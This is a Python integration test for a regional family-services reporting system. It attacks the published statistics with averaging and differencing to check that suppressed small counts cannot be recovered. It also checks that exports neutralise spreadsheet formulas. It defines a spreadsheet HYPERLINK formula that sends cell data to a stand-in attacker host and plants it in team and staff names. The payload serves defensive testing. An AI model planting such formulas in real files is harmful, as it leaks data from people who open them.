"""The region's statistics attacked as a manager would, on the real Kafka and PostgreSQL (issue: "counts published
as hidden come back by averaging differences"; routing's live summary; formulas in exports).

A year of several hundred requests in Varsinais-Suomi, most in the towns and a few in each small municipality.
The attacker asks the API more than 500 times with every filter it offers and:

(a) averages ``count(Q + X) - count(Q)`` over many sets ``Q`` of municipalities and over date ranges: such sets
    are refused (422), and asking one fixed cell again in any table gives the same answer each time;
(b) differences every relation of the published cells: a table's rows to its total, the months to the year, the
    municipalities to the region; narrows its estimates by the key figure's published lower bound of the share
    answered in time ("over 98%"); and compares its estimate of each hidden cell with the truth. It may not get
    them exactly more often than the best guess that knows only the distribution of the hidden counts.
"""

from __future__ import annotations

import csv
import io
import random
from collections.abc import Hashable
from datetime import UTC, date, datetime, timedelta
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook
from starlette.datastructures import QueryParams

from deploy.demo.events import year_of_events
from deploy.demo.model import plan_year
from services.reporting import model, tables
from services.reporting.auth import Viewer
from services.reporting.filters import parse_filters
from services.reporting.labels import month_label
from services.reporting.privacy import SUPPRESSED
from services.routing.accounts import add_account
from shared.businessdays import HELSINKI
from shared.events import CaseAssigned, CaseAssignedPayload, EventBase
from shared.regions import load_regions
from shared.settings import ROOT
from tests.attacks.attacker import Relation, differencing, judge, with_share_floors
from tests.integration.test_reporting import follow, publish, signed_in_reporting, submitted
from tests.integration.test_staff import client_for
from tests.support import APPS, eventually, running, settings_for, staff

pytestmark = pytest.mark.integration
REGION = load_regions(ROOT / "deploy" / "regions").by_id["varsinais-suomi"]
EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"Avaa")'
# Tables whose rows add up to their total row (count columns), and those whose rows are the months.
SUMMED = {"by_municipality", "by_time", "by_role", "topics", "outcomes", "response_by_municipality",
          "followups_by_month"}
MONTHLY = {"per_month", "followups_by_month"}
ATTACKED = (*SUMMED, "referrals", "response_by_team", "per_month")
Cell = tuple[str, str, str, Hashable, str]  # (area, period, table, row, column)


def year_of_requests() -> tuple[list[EventBase], int]:
    plans = plan_year(REGION, end=date(2026, 12, 1), rng=random.Random(18), per_1000_children=5,
                      professionals={"family-guidance": ["ohjaaja"], "family-work": ["perhetyo"]})
    events = list(year_of_events(plans, REGION, team_of={"ohjaaja": "family-guidance", "perhetyo": "family-work"}))
    # Six requests handled by a team whose id someone made a formula.
    for i in range(6):
        request = submitted("turku", datetime(2026, 4, 6 + i, 10, tzinfo=HELSINKI).astimezone(UTC))
        events += [request, follow(request, CaseAssigned, CaseAssignedPayload(
            assignee_kind="team", assignee_id=EVIL, team_id=EVIL), request.occurred_at + timedelta(hours=1))]
    return events, len(plans) + 6


def row_key(table: str, row: list[Any]) -> Hashable:
    return (row[0], row[1]) if table == "referrals" else row[0]


def cells_of(area: str, period: str, table: dict[str, Any]) -> dict[Cell, Any]:
    """The count cells of one table of one query, by what they are."""
    counted = [(i, c["key"]) for i, c in enumerate(table["columns"]) if c["kind"] == "count"]
    out: dict[Cell, Any] = {}
    for row in table["rows"]:
        for i, key in counted:
            out[(area, period, table["id"], row_key(table["id"], row), key)] = row[i]
    if table["total"]:
        for i, key in counted:
            if table["total"][i] is not None:
                out[(area, period, table["id"], "TOTAL", key)] = table["total"][i]
    return out


def relations(cells: set[Cell], areas: list[str], months: list[str], year: str) -> list[Relation]:
    """Every relation of the published cells the attacker knows from the tables' meaning."""
    out: list[Relation] = []
    by_query: dict[tuple[str, str, str, str], list[Cell]] = {}
    for c in cells:
        by_query.setdefault((c[0], c[1], c[2], c[4]), []).append(c)
    for (area, period, table, column), found in by_query.items():
        total = (area, period, table, "TOTAL", column)
        if table in SUMMED and total in cells:
            out.append(Relation(total, tuple(c for c in found if c[3] != "TOTAL")))
        if table == "referrals" and total in cells:
            kinds = [c for c in found if isinstance(c[3], tuple) and c[3][1] is None]
            out.append(Relation(total, tuple(kinds)))
            for kind in kinds:
                out.append(Relation(kind, tuple(c for c in found if isinstance(c[3], tuple) and c[3][0] == kind[3][0]
                                                and c[3][1] is not None)))
    for area in areas:  # the months of the year are all of it
        months_of = tuple(c for c in cells if c[:3] == (area, year, "per_month") and c[4] == "contacts")
        if (area, year, "by_time", "TOTAL", "contacts") in cells:
            out.append(Relation((area, year, "by_time", "TOTAL", "contacts"), months_of))
    for c in cells:
        area, period, table, row, column = c
        if period == year and table not in MONTHLY:  # the year is its months
            parts = tuple((area, m, table, row, column) for m in months)
            if all(p in cells for p in parts):
                out.append(Relation(c, parts))
        if area == "" and table not in ("by_municipality", "response_by_municipality"):  # the region is its places
            parts = tuple((m, period, table, row, column) for m in areas[1:])
            if all(p in cells for p in parts):
                out.append(Relation(c, parts))
    return out


async def test_no_combination_of_questions_gives_a_hidden_count_back(postgres, kafka, prefix, monkeypatch):
    env = {"prefix": prefix, "dsn": postgres.dsn, "bootstrap": kafka.bootstrap}
    routing_app, reporting_app = APPS["routing"](settings_for("routing", **env)), \
        APPS["reporting"](settings_for("reporting", **env))
    events, cases = year_of_requests()
    async with running(routing_app) as routing, running(reporting_app) as reporting:
        await publish(kafka, prefix, events)
        await signed_in_reporting(routing, reporting, routing_app)
        pool = reporting_app.state.runtime.pool

        async def applied() -> bool:
            return await pool.fetchval("SELECT count(*) FROM case_facts") == cases

        await eventually(applied, timeout=120, what="reporting to apply the year")
        year, today = "2026", datetime.now(HELSINKI).date()
        assert today.year == 2026, "the demo year is 2026; the clock says otherwise"
        months = [f"2026-{m:02d}" for m in range(1, today.month + 1)]
        areas = ["", *(m.id for m in REGION.municipalities)]
        asked = 0

        async def ask(table: str, params: list[tuple[str, str]]) -> httpx.Response:
            nonlocal asked
            asked += 1
            return await reporting.get(f"/api/v1/tables/{table}", params=[("lang", "en"), *params])

        # (a) The averaging attack: every set of municipalities but one, every range of days and every topic is
        # refused, saying which filter to use instead.
        true_counts = {r["municipality"]: r["n"] for r in await pool.fetch(
            "SELECT municipality, count(*) AS n FROM case_facts WHERE local_date >= '2026-01-01'"
            " GROUP BY 1")}
        small = [m for m in areas[1:] if true_counts.get(m, 0) < 5]
        assert len(small) >= 5, true_counts
        rng = random.Random(5)
        for target in small[:8]:
            for _ in range(15):
                others = rng.sample([m for m in areas[1:] if m != target], 3)
                for chosen in ([target, *others], others):
                    refused = await ask("by_municipality", [("municipality", m) for m in chosen])
                    assert refused.status_code == 422 and refused.json()["field"] == "municipality"
        for since, until in (("2026-01-01", "2026-06-30"), ("2026-01-02", "2026-06-30"), ("2026-03-01", "")):
            refused = await ask("per_month", [("since", since), ("until", until)])
            assert refused.status_code == 422 and refused.json()["field"] == "since"
            assert "use period" in refused.json()["detail"]
        refused = await ask("key_figures", [("topic", "parent_coping")])
        assert refused.status_code == 422 and refused.json()["field"] == "topic"
        # One small municipality's year is one cell: asked again and again, through any table, the same answer.
        target = small[0]
        answers = {(await ask("key_figures", [("municipality", target), ("period", year)])).json()["rows"][0][1]
                    for _ in range(10)}
        region_rows = (await ask("by_municipality", [("period", year)])).json()["rows"]
        answers.add(next(r[2] for r in region_rows if r[0] == REGION.municipality(target).name.get("en")))
        assert answers == {SUPPRESSED}

        # (b) Differencing: every table of every fixed area and period.
        published: dict[Cell, Any] = {}
        for area in areas:
            for period in (year, *months):
                for table in ATTACKED:
                    params = [("period", period), *([("municipality", area)] if area else [])]
                    answer = await ask(table, params)
                    assert answer.status_code == 200, answer.text
                    published |= cells_of(area, period, answer.json())
        assert asked >= 500
        # The key figure "answered by the promised day": where its share is hidden it may read "over k%", a bound
        # that follows from the published cells (services/reporting/bounds.py). The attacker takes it too.
        floors: list[tuple[Cell, Cell, int]] = []
        for area in areas:
            for period in (year, *months):
                figures = (await ask("key_figures", [("period", period), *([("municipality", area)] if area else [])
                                                     ])).json()
                in_time = next(r for r in figures["rows"] if r[0] == "Answered by the promised day")[2]
                if isinstance(in_time, str):
                    assert in_time.startswith("over ") and in_time.endswith("%"), in_time
                    total = (area, period, "response_by_municipality", "TOTAL")
                    floors.append(((*total, "met"), (*total, "missed"), int(in_time[5:-1])))

        # A cell is shown the same way wherever it appears: a month's row of the year is the month asked alone,
        # and a municipality's row of the region is the municipality asked alone.
        labels = {m: month_label(date(2026, int(m[5:]), 1), "en") for m in months}
        for area in areas:
            for m, label in labels.items():
                assert published[(area, m, "per_month", label, "contacts")] == \
                    published[(area, year, "per_month", label, "contacts")]
        for m in REGION.municipalities:
            name = m.name.get("en")
            assert published[(m.id, year, "by_municipality", name, "contacts")] == \
                published[("", year, "by_municipality", name, "contacts")]

        # The truth behind every cell: the same tables with nothing hidden or moved.
        monkeypatch.setattr(model.Group, "count", property(lambda g: g.n))
        viewer = Viewer(account_id="attacker", role="manager", region=REGION.id, language="en", csrf="x")
        truth: dict[Cell, Any] = {}
        async with pool.acquire() as conn:
            for area in areas:
                for period in (year, *months):
                    query = QueryParams([("period", period), *([("municipality", area)] if area else [])])
                    f = parse_filters(query, reporting_app.state.runtime.regions, viewer)
                    for table in ATTACKED:
                        truth |= cells_of(area, period, (await tables.build(conn, table, f, "en")).as_json())
        monkeypatch.undo()
        assert set(truth) == set(published)

        rels = relations(set(published), areas, months, year)
        assert floors, "no key figure showed a bound: the attacker's use of it would test nothing"
        estimates = with_share_floors(differencing(published, rels), published, floors)
        # Each bound holds: the true share answered in time is above it.
        for met, missed, k in floors:
            assert 100 * truth[met] > k * (truth[met] + truth[missed]), (met, k)
        hidden = [c for c, v in published.items() if v == SUPPRESSED]
        # Over every hidden cell, and over those with someone in them (most hidden cells are empty ones, so
        # guessing 0 is right most of the time; the families are in the others).
        for cells in (hidden, [c for c in hidden if truth[c]]):
            verdict = judge(estimates, truth, cells)
            assert verdict.cells >= 500 and len(rels) >= 1000, (verdict, len(rels))
            assert not verdict.beats_chance, verdict
        # A team whose name is a formula is text in every export.
        text = (await reporting.get("/export/response_by_team.csv", params={"period": year, "lang": "en"})).text
        assert "'" + EVIL.replace('"', '""') in text and "\n" + EVIL[:10] not in text
        book = load_workbook(io.BytesIO((await reporting.get(
            "/export/page-response.xlsx", params={"period": year, "lang": "en"})).content))
        written = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
        assert "'" + EVIL in [c.value for c in written] and all(c.data_type != "f" for c in written)

        # Routing's summary: a manager is sent to the dashboards; a coordinator sees the work per team.
        summary = await routing.get("/summary", params={"lang": "en"})
        assert summary.status_code == 200 and "/pass/reporting" in summary.text
        assert not any(m.name.get("en") in summary.text for m in REGION.municipalities)
        async with client_for(routing_app) as coordinator:
            await staff(coordinator, routing_app, role="coordinator")
            work = (await coordinator.get("/summary", params={"lang": "en"})).text
            assert "Service guidance for families with children" in work and "Waiting for a reply" in work
            assert not any(f">{m.name.get('en')}<" in work for m in REGION.municipalities)

            # Routing's access log: a staff member whose name is a formula is text in the CSV.
            pool_r = routing_app.state.runtime.pool
            settings = routing_app.state.runtime.settings
            async with pool_r.acquire() as conn:
                await add_account(conn, username="kaava", display_name=EVIL, role="coordinator", region=REGION.id,
                                  team_id=None, password="correct horse battery staple", keyring=settings.keyring,
                                  topic_prefix=settings.topic_prefix)
            case_id = str(events[-1].case_id)

            async def known() -> bool:
                return (await coordinator.get(f"/api/v1/cases/{case_id}")).status_code == 200

            await eventually(known, what="the case in routing")
        async with client_for(routing_app) as evil, client_for(routing_app) as admin:
            signed = await evil.post("/api/v1/session", json={"username": "kaava",
                                                                "password": "correct horse battery staple"})
            assert signed.status_code == 200
            assert (await evil.get(f"/api/v1/cases/{case_id}")).status_code == 200
            await staff(admin, routing_app, role="admin")
            exported = await admin.get("/admin/access.csv", params={"case": case_id, "lang": "en"})
            names = [r["Name"] for r in csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")))]
            assert "'" + EVIL in names and EVIL not in names
